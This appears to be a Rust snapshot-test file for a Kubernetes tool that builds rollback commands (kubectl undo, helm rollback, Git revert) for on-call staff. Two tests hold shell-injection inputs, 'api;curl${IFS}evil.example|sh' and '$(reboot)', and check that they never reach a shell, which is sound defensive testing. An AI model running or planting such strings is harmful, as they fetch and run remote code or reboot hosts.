//! Rollouts come in; the whole text of the way back is held against what somebody on call can do.

use std::borrow::Cow;

use insta::assert_snapshot;

use super::*;
use crate::cluster::ObjectRef;

fn by(tool: Tool, of: &str) -> Actor {
    Actor { tool, of: (!of.is_empty()).then(|| of.to_owned()), at: None, cause: None }
}

/// The second of two rollouts: who did it, and who keeps the workload.
fn second(by: impl Into<Option<Actor>>, kept_by: impl Into<Option<Actor>>) -> Rollout {
    Rollout {
        owner: ObjectRef { kind: Cow::Borrowed("Deployment"), namespace: "shop".into(), name: "api".into() },
        number: 2,
        revision: "api-b".to_owned(),
        at: "2026-11-24T14:00:00Z".parse().unwrap(),
        before: Before::Revision(1, Vec::new()),
        by: by.into(),
        kept_by: kept_by.into(),
        is_current: true,
        source: None,
    }
}

fn first() -> Rollout {
    Rollout {
        number: 1,
        revision: "api-a".to_owned(),
        before: Before::Nothing,
        is_current: false,
        ..second(None, None)
    }
}

fn of(rollout: Rollout) -> String {
    undo(&rollout.clone(), &[rollout, first()]).unwrap_or_else(|| "none".to_owned())
}

fn edited() -> Actor {
    by(Tool::Kubectl("edit".to_owned()), "")
}

#[test]
fn what_nobody_keeps_is_undone_by_hand() {
    assert_snapshot!(of(second(edited(), None)), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    assert_snapshot!(of(second(None, None)), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    let applied = by(Tool::Kubectl("apply".to_owned()), "");
    assert_snapshot!(of(second(applied.clone(), applied)), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    let mut database = second(edited(), None);
    database.owner.kind = Cow::Borrowed("StatefulSet");
    assert_snapshot!(of(database), @"kubectl -n shop rollout undo statefulset/api --to-revision=1");
}

#[test]
fn what_comes_from_git_is_reverted_there() {
    for (tool, of_it) in [(Tool::ArgoCd, "shop"), (Tool::FluxKustomization, "apps"), (Tool::Fleet, "shop")] {
        let kept = by(tool, of_it);
        let expected = format!("revert the change in Git: {kept} puts in place what is there");
        assert_eq!(of(second(kept.clone(), kept.clone())), expected);
        assert_eq!(of(second(None, kept)), expected, "who did it is not known, so it came from there");
    }
    let flux = by(Tool::FluxHelmRelease, "shop/api");
    assert_snapshot!(of(second(flux.clone(), flux)), @"revert the change in Git: Flux HelmRelease shop/api puts in place what is there");
}

#[test]
fn what_was_done_by_hand_to_what_comes_from_git_is_undone_by_hand() {
    assert_snapshot!(of(second(edited(), by(Tool::ArgoCd, "shop"))), @"kubectl -n shop rollout undo deployment/api --to-revision=1   (Argo CD application shop puts in place what is in Git)");
}

#[test]
fn what_helm_released_is_rolled_back_by_helm_where_the_release_is() {
    let release = |of: &str| second(by(Tool::Helm, of), by(Tool::Helm, of));
    assert_snapshot!(of(release("api (chart api-1.4.2)")), @"helm -n shop rollback api");
    assert_snapshot!(of(release("ops/api (version 5.8.0)")), @"helm -n ops rollback api");
    assert_snapshot!(of(release("")), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    assert_snapshot!(of(second(edited(), by(Tool::Helm, "api"))), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
}

#[test]
fn what_k3s_installs_by_helm_is_a_release_and_what_it_applies_comes_back_from_its_manifest() {
    let mut traefik =
        second(by(Tool::Helm, "traefik (chart traefik-27.0.2)"), by(Tool::Helm, "traefik (chart traefik-27.0.2)"));
    (traefik.owner.namespace, traefik.owner.name) = ("kube-system".into(), "traefik".into());
    assert_snapshot!(of(traefik), @"helm -n kube-system rollback traefik");
    let mut dns = second(by(Tool::K3sAddon, "coredns"), by(Tool::K3sAddon, "coredns"));
    (dns.owner.namespace, dns.owner.name) = ("kube-system".into(), "coredns".into());
    assert_snapshot!(of(dns), @"kubectl -n kube-system rollout undo deployment/coredns --to-revision=1   (until K3s applies its manifest again: mend that as well)");
}

#[test]
fn there_is_no_way_back_to_nothing_to_what_is_gone_and_to_what_is_in_force() {
    assert_eq!(undo(&first(), &[first()]), None);
    assert_eq!(of(Rollout { before: Before::Forgotten, ..second(None, None) }), "none");
    assert_eq!(undo(&second(None, None), &[second(None, None)]), None, "the one before is not kept");
    let back = Rollout { number: 3, revision: "api-a".to_owned(), ..second(None, None) };
    let gone = Rollout { is_current: false, ..second(None, None) };
    assert_eq!(undo(&gone, &[back, gone.clone(), first()]), None, "it was rolled back already");
}

#[test]
fn the_way_back_from_one_that_others_came_after_takes_those_back_as_well() {
    let suspect = Rollout { is_current: false, ..second(None, None) };
    let third = Rollout { number: 3, revision: "api-c".to_owned(), ..second(None, None) };
    assert_snapshot!(undo(&suspect, &[third.clone(), suspect.clone(), first()]).unwrap(), @"kubectl -n shop rollout undo deployment/api --to-revision=1   (takes back #3 as well)");
    // What came back has another number now, and no other is known to kubectl.
    let fourth = Rollout { number: 4, revision: "api-d".to_owned(), ..second(None, None) };
    let back = Rollout { number: 3, revision: "api-a".to_owned(), is_current: false, ..second(None, None) };
    assert_snapshot!(undo(&suspect, &[fourth, back, suspect.clone(), first()]).unwrap(), @"kubectl -n shop rollout undo deployment/api --to-revision=3   (takes back #3, #4 as well)");
    let kept = by(Tool::Helm, "api");
    let helm = Rollout { kept_by: Some(kept), ..suspect };
    assert_snapshot!(undo(&helm, &[third, helm.clone(), first()]).unwrap(), @"kubectl -n shop rollout undo deployment/api --to-revision=1   (takes back #3 as well)");
}

#[test]
fn no_word_of_an_annotation_reaches_a_shell_as_anything_but_a_name() {
    let evil = "api;curl${IFS}evil.example|sh";
    let of_helm = second(by(Tool::Helm, evil), by(Tool::Helm, evil));
    assert_snapshot!(of(of_helm), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    assert_snapshot!(of(second(by(Tool::Helm, "--help"), by(Tool::Helm, "--help"))), @"kubectl -n shop rollout undo deployment/api --to-revision=1");
    assert_snapshot!(of(second(edited(), by(Tool::ArgoCd, evil))), @"kubectl -n shop rollout undo deployment/api --to-revision=1   (Argo CD application puts in place what is in Git)");
    let mut named = second(None, None);
    named.owner.name = "api$(reboot)".into();
    assert_eq!(of(named), "none");
}

/// What was put in place with a rollout, and where it is from.
fn put_in_place(revision: &str, previous: Option<&str>) -> ChangeSource {
    ChangeSource {
        keeper: "Argo CD application shop".to_owned(),
        repository: Some("https://github.com/acme/gitops.git".to_owned()),
        path: Some("apps/shop".to_owned()),
        revision: revision.to_owned(),
        previous: previous.map(str::to_owned),
        at: "2026-11-24T14:00:00Z".parse().unwrap(),
        waits: false,
    }
}

fn from_git(source: ChangeSource) -> String {
    let kept = by(Tool::ArgoCd, "shop");
    of(Rollout { source: Some(source), ..second(kept.clone(), kept) })
}

#[test]
fn a_commit_that_is_known_is_the_one_to_revert() {
    let (before, after) = ("9f3c2ab0".repeat(5), "abc12340".repeat(5));
    let known = put_in_place(&after, Some(&before));
    assert_snapshot!(from_git(known.clone()), @"revert abc1234 in github.com/acme/gitops, path apps/shop (before it 9f3c2ab): Argo CD application shop puts in place what is there");
    assert_snapshot!(from_git(ChangeSource { waits: true, path: None, previous: None, ..known.clone() }), @"revert abc1234 in github.com/acme/gitops: Argo CD application shop puts in place what is there, once somebody tells it to");
    assert_snapshot!(from_git(put_in_place("1.4.2", Some("1.4.1"))), @"put version 1.4.1 back in Git: Argo CD application shop puts in place what is there");
    assert_snapshot!(from_git(put_in_place("1.4.2", None)), @"revert the change in Git: Argo CD application shop puts in place what is there");
    let evil = ChangeSource {
        repository: Some("https://x.example/$(reboot)".to_owned()),
        path: Some("a;b".to_owned()),
        ..known
    };
    assert_snapshot!(from_git(evil), @"revert abc1234 (before it 9f3c2ab): Argo CD application shop puts in place what is there");
}

#[test]
fn what_k3s_installs_from_a_chart_comes_back_with_the_chart() {
    let helm = by(Tool::Helm, "api");
    let source = ChangeSource { keeper: "HelmChart kube-system/api".to_owned(), ..put_in_place("1.4.2", None) };
    assert_snapshot!(of(Rollout { source: Some(source), ..second(helm.clone(), helm) }), @"helm -n shop rollback api   (until K3s installs HelmChart kube-system/api again: mend that as well)");
}
